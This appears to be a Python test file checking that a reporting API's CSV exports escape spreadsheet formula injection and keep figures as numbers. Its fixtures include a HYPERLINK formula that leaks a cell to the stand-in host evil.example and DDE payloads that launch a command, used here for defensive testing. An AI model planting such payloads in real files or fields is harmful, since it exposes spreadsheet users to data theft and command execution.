"""Report CSVs: what staff and customers typed (a reason for visit, a model, a consultant's name) is never a
cell a spreadsheet evaluates; figures stay numbers."""
from __future__ import annotations

import csv
import io

import reporting_events as ev
from reporting.domain.report import Report
from reporting.entrypoints.api.render import to_csv
from servicekit.testing import auth_headers

#: What a spreadsheet reads as a formula (OWASP, CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_a_report_csv_has_no_cell_a_spreadsheet_would_evaluate(apply, client):
    apply([ev.customer("p1", "2026-10-02T02:00:00Z", source='=HYPERLINK("http://evil.example/?"&A1,"click")',
                       owner="@SUM(1+1)*cmd|' /C calc'!A0", wanted_model="-2+3+cmd|' /C calc'!A0"),
           ev.customer("p2", "2026-10-03T02:00:00Z", source="+8613800138000")])
    response = client.get("/api/v1/reports/prospects", headers=auth_headers("viewer"),
                          query_string={"from": "2026-10-01", "to": "2026-10-31", "format": "csv"})
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    sources = [row[1] for row in rows if row[:1] == ["source"]]
    assert sorted(sources) == ["'+8613800138000", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"]
    assert [cell for row in rows for cell in row if cell.startswith(FORMULA_START)] == []


def test_numbers_stay_numbers_and_text_is_enclosed_in_quotes():
    rows = [["2026-10", -12, -12.5], ["-3", None, 0.25]]
    report = Report("value", {}, [("by_month", ["month", "net", "share"], rows)])
    lines = to_csv(report).lstrip("\ufeff").splitlines()
    assert lines[1:] == ['"month","net","share"', '"2026-10",-12,-12.5', '"\'-3","",0.25']
